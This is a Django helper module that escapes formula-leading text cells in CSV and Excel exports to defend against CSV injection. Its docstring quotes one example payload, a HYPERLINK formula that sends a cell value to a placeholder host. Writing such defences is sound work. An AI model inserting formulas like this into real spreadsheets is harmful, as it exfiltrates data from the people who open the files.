"""One way to write every CSV and Excel file the product hands out, with formulas disarmed.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and some read a leading tab
or carriage return the same way) as a formula: an imported name like
`=HYPERLINK("http://x/?"&A1,"klik")` would become a live link in HR's Excel. Every text cell
that starts with one of those characters gets a leading apostrophe, which spreadsheets show
as plain text (OWASP "CSV injection"). Numbers, dates and booleans are left as they are.
The admin's import-export downloads do the same (`IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT`).
"""

from __future__ import annotations

import csv
import io
import tempfile
from collections.abc import Iterable, Iterator, Sequence
from typing import Any

from django.http import FileResponse, HttpResponse, StreamingHttpResponse

PEMICU_RUMUS = ("=", "+", "-", "@", "\t", "\r")
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def sel_aman(nilai: Any) -> Any:
    """The cell value, with a text that a spreadsheet would run as a formula disarmed."""
    if isinstance(nilai, str) and nilai.startswith(PEMICU_RUMUS):
        return "'" + nilai
    return nilai


def baris_aman(baris: Iterable[Any]) -> list[Any]:
    return [sel_aman(v) for v in baris]


def dataset(headers: Sequence[str], baris: Iterable[Iterable[Any]], *, judul: str = ""):
    """A tablib Dataset whose cells are already disarmed."""
    import tablib

    data = tablib.Dataset(headers=list(headers), title=judul or None)
    for b in baris:
        data.append(baris_aman(b))
    return data


def _lampiran(response: HttpResponse, nama_berkas: str) -> HttpResponse:
    response["Content-Disposition"] = f'attachment; filename="{nama_berkas}"'
    return response


def xlsx_bita(data: Any) -> bytes:
    """The xlsx bytes of a tablib Dataset, cells disarmed again whoever built it (for a file
    kept to be downloaded later)."""
    return dataset(data.headers or [], data, judul=data.title or "").export("xlsx")


def xlsx_respons(data: Any, nama_berkas: str) -> HttpResponse:
    """An Excel download of a tablib Dataset (cells disarmed again, whoever built it)."""
    return _lampiran(HttpResponse(xlsx_bita(data), content_type=XLSX), nama_berkas)


def _csv_potongan(
    headers: Sequence[str], baris: Iterable[Iterable[Any]], per_potong: int
) -> Iterator[bytes]:
    buf = io.StringIO()
    tulis = csv.writer(buf)
    buf.write("\ufeff")
    tulis.writerow(baris_aman(headers))
    for i, b in enumerate(baris, 1):
        tulis.writerow(baris_aman(b))
        if i % per_potong == 0:
            yield buf.getvalue().encode()
            buf.seek(0)
            buf.truncate()
    yield buf.getvalue().encode()


def csv_respons(
    headers: Sequence[str], baris: Iterable[Iterable[Any]], nama_berkas: str, *, per_potong=1000
) -> StreamingHttpResponse:
    """A CSV download (UTF-8 with a BOM so that Excel reads it), streamed: `baris` is read
    lazily (pass an iterator over the rows in chunks) and sent `per_potong` rows at a time,
    so a province-wide export never sits whole in memory."""
    response = StreamingHttpResponse(
        _csv_potongan(headers, baris, per_potong), content_type="text/csv; charset=utf-8"
    )
    return _lampiran(response, nama_berkas)


def xlsx_aliran(
    headers: Sequence[str], baris: Iterable[Iterable[Any]], nama_berkas: str, *, judul: str = ""
) -> FileResponse:
    """An Excel download built row by row (openpyxl's write-only workbook keeps no cells in
    memory) into a temporary file that is then streamed; cells disarmed. For lists too big
    to hold as a tablib Dataset."""
    from openpyxl import Workbook

    wb = Workbook(write_only=True)
    ws = wb.create_sheet(title=(judul or "Sheet1")[:31])
    ws.append(baris_aman(headers))
    for b in baris:
        ws.append(baris_aman(b))
    berkas = tempfile.TemporaryFile()
    wb.save(berkas)
    berkas.seek(0)
    return FileResponse(berkas, as_attachment=True, filename=nama_berkas, content_type=XLSX)
